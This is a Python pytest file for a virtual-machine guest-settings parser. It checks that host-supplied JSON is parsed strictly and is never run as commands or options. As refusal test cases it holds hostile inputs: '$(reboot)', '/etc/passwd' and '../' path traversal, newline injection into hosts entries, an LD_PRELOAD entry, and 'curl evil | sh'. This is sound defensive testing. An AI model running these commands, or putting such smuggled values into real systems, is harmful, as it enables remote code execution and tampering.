"""What a host tells a guest: parsed strictly, and never more than data."""

from __future__ import annotations

import ipaddress
import json
from typing import Any

import pytest

from adyton.errors import MalformedManifest
from adyton.image.guest_settings import DHCP, MAX_BYTES, GuestSettings, Network, parse_settings

DOCUMENT = {
    "format": "adyton-guest/1",
    "manifest": "app/app.manifest",
    "tee": "tpm",
    "key_servers": ["keys.example.org:4433", "other=10.0.2.2:4434"],
    "arguments": ["--help", "a b", "$(reboot)"],
    "hosts": {"keys.example.org": "10.0.2.2"},
    "network": {"address": "10.0.2.15/24", "gateway": "10.0.2.2", "name_servers": ["10.0.2.3"]},
}


def _parse(document: object) -> GuestSettings:
    return parse_settings(json.dumps(document).encode())


def test_document_round_trips() -> None:
    """Each member becomes a value of its own type."""
    found = _parse(DOCUMENT)
    assert found.network == Network(
        ipaddress.IPv4Interface("10.0.2.15/24"), ipaddress.IPv4Address("10.0.2.2"), (ipaddress.IPv4Address("10.0.2.3"),)
    )
    assert parse_settings(found.to_bytes()) == found
    least = _parse({"format": "adyton-guest/1", "manifest": "a", "tee": "tdx"})
    assert (least.network, least.key_servers, dict(least.hosts)) == (None, (), {})
    assert parse_settings(least.to_bytes()) == least


def test_network_may_give_the_address() -> None:
    """Name servers of the settings come before those of the network; an empty list is none at all."""
    for servers, found in ((None, None), ([], ()), (["10.0.0.1"], (ipaddress.IPv4Address("10.0.0.1"),))):
        network: dict[str, object] = {"dhcp": True} if servers is None else {"dhcp": True, "name_servers": servers}
        settings = _parse({**DOCUMENT, "network": network})
        assert settings.network == DHCP(found)
        assert parse_settings(settings.to_bytes()) == settings


def test_gateway_beyond_the_own_network_is_reached_by_the_interface() -> None:
    """As on machines of Google's."""
    network = _parse({**DOCUMENT, "network": {"address": "10.132.0.7/32", "gateway": "10.132.0.1"}}).network
    assert isinstance(network, Network)
    shown = [(str(route.destination), str(route.gateway)) for route in network.configuration().routes]
    assert shown == [("10.132.0.1/32", "None"), ("0.0.0.0/0", "10.132.0.1")]


def test_words_of_the_host_are_never_options_or_commands() -> None:
    """The manifest has a folder before it, and arguments stand behind --."""
    words = _parse(DOCUMENT).command()
    assert words[:3] == ["run", "--tee", "tpm"]
    assert words[-5:] == ["./app/app.manifest", "--", "--help", "a b", "$(reboot)"]
    words = _parse({**DOCUMENT, "gpu_collateral": "--help"}).command()
    assert words[words.index("--gpu-collateral") + 1] == "./--help"
    found = _parse({**DOCUMENT, "gpu_collateral": "gpus.json"})
    assert parse_settings(found.to_bytes()) == found
    assert _parse(DOCUMENT).hosts_file({}) == "127.0.0.1 localhost\n10.0.2.2 keys.example.org\n"


def test_name_without_an_address_is_asked_for_and_never_in_place_of_a_given_one() -> None:
    """Addresses need nobody, and what the settings say comes first."""
    servers = ["keys.example.org:4433", "other=b.example:4434", "c=b.example:1", "10.0.2.2:1", "[2001:db8::1]:1"]
    settings = _parse({**DOCUMENT, "key_servers": servers})
    assert settings.names_to_ask_for() == ["b.example"]
    found = {"b.example": ipaddress.IPv4Address("10.0.0.7"), "keys.example.org": ipaddress.IPv4Address("10.0.0.8")}
    assert settings.hosts_file(found).splitlines()[1:] == ["10.0.0.7 b.example", "10.0.2.2 keys.example.org"]


@pytest.mark.parametrize(
    ("member", "value"),
    [
        ("format", "adyton-guest/2"),
        ("manifest", "../a"),
        ("manifest", "/etc/passwd"),
        ("manifest", ""),
        ("manifest", "a\nb"),
        ("manifest", "x" * 300),
        ("gpu_collateral", "/etc/passwd"),
        ("gpu_collateral", "../gpus.json"),
        ("gpu_collateral", 1),
        ("tee", "sim"),
        ("tee", "sim-tpm:00"),
        ("tee", ["tpm"]),
        ("key_servers", ["--grants=/dev/vda:1"]),
        ("key_servers", ["keys.example.org"]),
        ("key_servers", ["a b=keys:1"]),
        ("key_servers", ["-o=keys:1"]),
        ("key_servers", ["keys:1"] * 65),
        ("arguments", ["x" * 4097]),
        ("arguments", ["a\0b"]),
        ("arguments", [1]),
        ("hosts", {"a b": "10.0.0.1"}),
        ("hosts", {"a\n10.0.0.9 b": "10.0.0.1"}),
        ("hosts", {"a": "fe80::1"}),
        ("hosts", {"a": "10.0.0.1\n10.0.0.2 b"}),
        ("hosts", {"a": 1}),
        ("network", {"address": "10.0.2.15"}),
        ("network", {"address": "10.0.2.15/0"}),
        ("network", {"address": "10.0.2.15/33"}),
        ("network", {"address": "10.0.2.15/7"}),
        ("network", {"dhcp": False}),
        ("network", {"dhcp": True, "address": "10.0.2.15/24"}),
        ("network", {}),
        ("network", {"address": "10.0.2.15/24", "gateway": "x"}),
        ("network", {"address": "10.0.2.15/24", "up": "curl evil | sh"}),
        ("network", {"address": "10.0.2.15/24", "name_servers": ["10.0.0.1"] * 4}),
        ("environment", {"LD_PRELOAD": "x"}),
    ],
)
def test_anything_else_is_refused(member: str, value: Any) -> None:
    """Unknown members, other types, too much, and texts that would mean more than they say."""
    with pytest.raises(MalformedManifest) as refused:
        _parse({**DOCUMENT, member: value})
    assert "settings of the guest" in str(refused.value)


def test_document_beyond_its_limit_is_refused() -> None:
    """64 KiB are enough for all of it."""
    with pytest.raises(MalformedManifest):
        parse_settings(b" " * MAX_BYTES + json.dumps(DOCUMENT).encode())
